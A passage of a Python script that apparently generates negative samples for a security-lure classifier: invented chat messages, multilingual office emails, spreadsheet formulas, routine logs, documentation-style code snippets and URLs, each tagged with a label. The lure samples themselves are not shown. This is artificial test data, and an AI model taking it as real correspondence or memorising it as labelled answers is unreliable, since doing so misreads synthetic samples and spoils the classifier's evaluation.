        "looks like the Grafana dashboard for shop-api is missing the p99 panel since the upgrade",
        "Can I get edit access to the Q1 budget sheet? Thanks!",
        "coffee machine on 3 is fixed ☕",
        "heads-up: Apple pushed 26.4.1, please update your Macs this week",
    ]
    for i, text in enumerate(CHAT2):
        add(
            "chat-message",
            UNK,
            [
                "https://teams.microsoft.com/",
                "https://app.slack.com/client/T024BE7LD",
                "https://chat.google.com/",
            ][i % 3],
            text,
        )

    OFFICE2 = [
        (
            "https://outlook.office.com/mail/",
            "Hi Sam,\n\nas discussed, here are the figures for November: revenue €412k (+6% MoM), gross margin 41%, 3 new enterprise customers. The full board pack follows on Monday.\n\nBest regards,\nNina",
        ),
        (
            "https://docs.google.com/spreadsheets/",
            "=QUERY(Orders!A:F, \"select C, sum(F) where B >= date '2026-11-01' group by C order by sum(F) desc\", 1)",
        ),
        (
            "https://support.microsoft.com/en-us/office/",
            '=TEXT(TODAY()-WEEKDAY(TODAY(),3),"dd.mm.yyyy")',
        ),
        (
            "https://outlook.office.com/mail/",
            "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unser Angebot Nr. 2026-311 für die Wartung Ihrer Klimaanlagen. Das Angebot ist bis zum 31.12.2026 gültig.\n\nMit freundlichen Grüßen\nMüller Kältetechnik",
        ),
        (
            "https://docs.google.com/document/",
            "Meeting notes 07/12\n- Launch moved to 19 Jan (legal review)\n- Marketing needs final screenshots by 9 Jan\n- Owner for FAQ page: Jamal",
        ),
        (
            "https://outlook.office.com/mail/",
            "Hi Jess, I'll be at the client in Leeds on Thursday. If anything urgent comes up, text me rather than calling. Thanks, Dan",
        ),
        (
            "https://www.notion.so/",
            "### Travel policy (short)\n- Economy for flights under 6 h\n- Hotel cap €160/night in EU capitals\n- Receipts within 30 days",
        ),
        (
            "https://outlook.office.com/mail/",
            "Caro Marco,\n\nti confermo la consegna dei materiali per il 12 dicembre presso il magazzino di Bologna, via Stalingrado 45.\n\nSaluti,\nElena",
        ),
        (
            "https://docs.google.com/presentation/",
            "Q4 Highlights\n• 3 product launches\n• NPS up from 38 to 46\n• Support backlog down 30%",
        ),
        (
            "https://www.office.com/",
            "Please find attached the signed contract (PDF). The original will follow by post to your Amsterdam office.",
        ),
        (
            "https://outlook.office.com/mail/",
            "Dzień dobry,\n\nw załączniku przesyłam fakturę nr FV/12/2026/044. Termin płatności: 14 dni.\n\nPozdrawiam,\nKatarzyna",
        ),
        (
            "https://docs.google.com/document/",
            "Job description: Junior Accountant (m/f/d), full time, Hamburg. Tasks: accounts payable, bank reconciliation, month-end support. Start: March 2027.",
        ),
    ]
    for page, text in OFFICE2:
        add("office-text", UNK, page, text)

    LOGS2 = [
        (
            "https://github.com/acme/shop/actions/runs/13001",
            "Error: Process completed with exit code 137.\n##[error]The runner has received a shutdown signal. This can happen when the runner service is stopped, or a manually started runner is canceled.",
        ),
        (
            "https://kibana.example.org/app/discover",
            "2026-12-07 11:42:07,118 WARNING [invoice.export] retrying S3 upload (attempt 3/5): ReadTimeoutError(\"HTTPSConnectionPool(host='s3.eu-west-1.amazonaws.com', port=443): Read timed out.\")",
        ),
        (
            "https://dashboard.example.org/",
            "Dec 07 11:03:54 db01 postgres[2231]: [12-1] LOG:  checkpoint complete: wrote 18211 buffers (13.9%); 0 WAL file(s) added, 0 removed, 9 recycled",
        ),
        (
            "https://portal.azure.com/",
            "Event ID 4625: An account failed to log on. Account Name: j.smith  Failure Reason: Unknown user name or bad password.  Source Network Address: 10.20.30.57",
        ),
        (
            "https://console.cloud.google.com/logs",
            'severity=ERROR resource.type=cloud_run_revision textPayload="psycopg.OperationalError: connection to server at \\"10.8.0.3\\", port 5432 failed: FATAL:  too many connections"',
        ),
        (
            "https://github.com/acme/web/issues/812",
            "Module not found: Error: Can't resolve '@/components/Chart' in '/app/src/pages/reports'",
        ),
        (
            "https://dashboard.example.org/",
            'kubelet[1182]: E1207 10:59:02.331 pod_workers.go:1301] "Error syncing pod, skipping" err="failed to \\"StartContainer\\" for \\"api\\" with CrashLoopBackOff"',
        ),
        (
            "https://support.apple.com/",
            "panic(cpu 2 caller 0xfffffe0022a1c3b0): watchdog timeout: no checkins from watchdogd in 90 seconds",
        ),
    ]
    for page, text in LOGS2:
        add("log-excerpt", UNK, page, text)

    CODE2 = [
        (
            "https://docs.python.org/3/library/csv.html",
            "import csv\n\nwith open('orders.csv', newline='', encoding='utf-8') as f:\n    total = sum(float(row['amount']) for row in csv.DictReader(f))\nprint(f'{total:.2f}')",
        ),
        (
            "https://docs.python.org/3/library/datetime.html",
            "from datetime import datetime, timezone, timedelta\n\ncutoff = datetime.now(timezone.utc) - timedelta(days=30)\nstale = [u for u in users if u.last_login < cutoff]",
        ),
        (
            "https://fastapi.tiangolo.com/tutorial/first-steps/",
            "from fastapi import FastAPI\n\napp = FastAPI()\n\n@app.get('/health')\ndef health() -> dict[str, str]:\n    return {'status': 'ok'}",
        ),
        (
            "https://docs.sqlalchemy.org/en/20/orm/quickstart.html",
            "stmt = select(Invoice).where(Invoice.status == 'open').order_by(Invoice.due_date)\nfor inv in session.scalars(stmt):\n    print(inv.number, inv.due_date)",
        ),
        (
            "https://nodejs.org/api/fs.html",
            "import { readFile } from 'node:fs/promises';\n\nconst pkg = JSON.parse(await readFile(new URL('./package.json', import.meta.url)));\nconsole.log(pkg.version);",
        ),
        (
            "https://expressjs.com/en/starter/hello-world.html",
            "app.get('/api/orders/:id', async (req, res) => {\n  const order = await db.orders.findById(req.params.id);\n  if (!order) return res.sendStatus(404);\n  res.json(order);\n});",
        ),
        (
            "https://go.dev/doc/effective_go",
            'for i, line := range strings.Split(string(data), "\\n") {\n    if strings.HasPrefix(line, "#") {\n        continue\n    }\n    fmt.Println(i, line)\n}',
        ),
        (
            "https://learn.microsoft.com/en-us/powershell/scripting/learn/deep-dives/everything-about-pscustomobject",
            "[PSCustomObject]@{\n    Computer = $env:COMPUTERNAME\n    User     = $env:USERNAME\n    Uptime   = (Get-Date) - (gcim Win32_OperatingSystem).LastBootUpTime\n}",
        ),
        (
            "https://docs.rs/serde_json/latest/serde_json/",
            "#[derive(Deserialize)]\nstruct Config {\n    listen: String,\n    workers: usize,\n}\n\nlet cfg: Config = serde_json::from_str(&text)?;",
        ),
        (
            "https://www.w3schools.com/css/css_grid.asp",
            ".gallery {\n  display: grid;\n  grid-template-columns: repeat(auto-fill, minmax(220px, 1fr));\n  gap: 1rem;\n}",
        ),
        (
            "https://tailwindcss.com/docs/dark-mode",
            '<button class="rounded-lg bg-slate-900 px-4 py-2 text-white hover:bg-slate-700 dark:bg-white dark:text-slate-900">Save</button>',
        ),
        (
            "https://docs.python.org/3/library/logging.html",
            "logging.basicConfig(level=logging.INFO, format='%(asctime)s %(levelname)s %(name)s: %(message)s')\nlog = logging.getLogger('invoice.export')",
        ),
        (
            "https://pandas.pydata.org/docs/user_guide/groupby.html",
            "df.groupby(['region', 'month'])['revenue'].sum().unstack().round(0)",
        ),
        (
            "https://developer.apple.com/documentation/swiftui/list",
            'List(invoices) { invoice in\n    HStack {\n        Text(invoice.number)\n        Spacer()\n        Text(invoice.total, format: .currency(code: "EUR"))\n    }\n}',
        ),
        (
            "https://www.gnu.org/software/make/manual/make.html",
            "test:\n\tpytest -q\n\nlint:\n\truff check . && mypy src\n\n.PHONY: test lint",
        ),
        (
            "https://docs.docker.com/build/building/multi-stage/",
            'FROM python:3.12-slim AS build\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --prefix=/install -r requirements.txt\n\nFROM python:3.12-slim\nCOPY --from=build /install /usr/local\nCOPY . /app\nCMD ["gunicorn", "app.wsgi"]',
        ),
    ]
    for page, text in CODE2:
        add("code", UNK, page, text)

    URL2 = [
        (
            UNK,
            "https://github.com/",
            "https://github.com/acme-corp/shop-frontend/compare/main...feature/checkout-v2",
        ),
        (
            UNK,
            "https://console.aws.amazon.com/",
            "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Finvoice-export",
        ),
        (
            UNK,
            "https://portal.azure.com/",
            "https://portal.azure.com/#@contoso.onmicrosoft.com/resource/subscriptions/0000-1111/resourceGroups/rg-shop-prod/overview",
        ),
        (
            UNK,
            "https://grafana.example.org/",
            "https://grafana.example.org/d/shop-api/shop-api?orgId=1&from=now-6h&to=now&var-env=prod",
        ),
        (
            UNK,
            "https://www.ryanair.com/",
            "https://www.ryanair.com/gb/en/trip/manage?bookingRef=Q7XK2M",
        ),
        (
            UNK,
            "https://www.bahn.de/",
            "https://www.bahn.de/buchung/fahrplan/suche#sts=true&so=Hamburg%20Hbf&zo=M%C3%BCnchen%20Hbf&hd=2026-12-18T07:00:00",
        ),
        (
            UNK,
            "https://forms.office.com/",
            "https://forms.office.com/Pages/ResponsePage.aspx?id=v4j5cvGGr0GRqy180BHbR2-holiday-party-rsvp",
        ),
        (
            UNK,
            "https://www.eventbrite.com/",
            "https://www.eventbrite.com/e/pycon-de-2027-tickets-112233445566",
        ),
        (RUN, None, "https://status.contoso.com/"),
        (RUN, None, "https://myaccount.microsoft.com/"),
        (RUN, None, "https://mysignins.microsoft.com/security-info"),
        (EXP, None, "https://contoso-my.sharepoint.com/personal/j_doe_contoso_com/Documents"),
        (
            UNK,
            "https://learn.microsoft.com/",
            "https://learn.microsoft.com/en-us/entra/identity/conditional-access/policy-block-authentication-flows",
        ),
    ]
    for target, page, text in URL2:
        add("url", target, page, text)


def lure_rows() -> list[dict[str, str]]:
    return kit.lure_rows(PREFIX, build_lures())


def benign_rows() -> list[dict[str, str]]:
    return kit.benign_rows(PREFIX, build_benign())


if __name__ == "__main__":
    kit.main(PREFIX, build_lures(), build_benign(), LURES_OUT, BENIGN_OUT)
